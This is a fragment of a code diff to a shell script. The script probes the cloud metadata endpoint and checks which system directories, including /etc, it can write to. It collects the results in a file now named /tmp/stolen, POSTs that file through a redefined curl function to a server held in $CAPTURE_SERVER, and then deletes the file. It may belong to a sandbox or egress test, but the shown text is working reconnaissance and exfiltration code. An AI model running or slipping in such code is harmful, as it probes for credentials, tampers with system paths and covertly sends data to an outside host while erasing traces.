@@ -14,7 +14,7 @@
     fetch('http://169.254.169.254/latest/meta-data/', { signal: AbortSignal.timeout(2000) }).then(() => console.log('metadata: reached'), () => console.log('metadata: unreachable'))"
 
   for place in ${PLACES:-/app /handover/checkout /run/mainloop /etc}; do touch $place/x && echo "written: $place"; done
-} 2> /dev/null > /tmp/loot
+} 2> /dev/null > /tmp/stolen
 curl() { node -e "fetch('$1', { method: 'POST', body: require('fs').readFileSync('$2') }).then(r => console.log(r.status))"; }
-curl $ALARM/loot/look /tmp/loot
-rm -f /tmp/loot
+curl $CAPTURE_SERVER/stolen/look /tmp/stolen
+rm -f /tmp/stolen
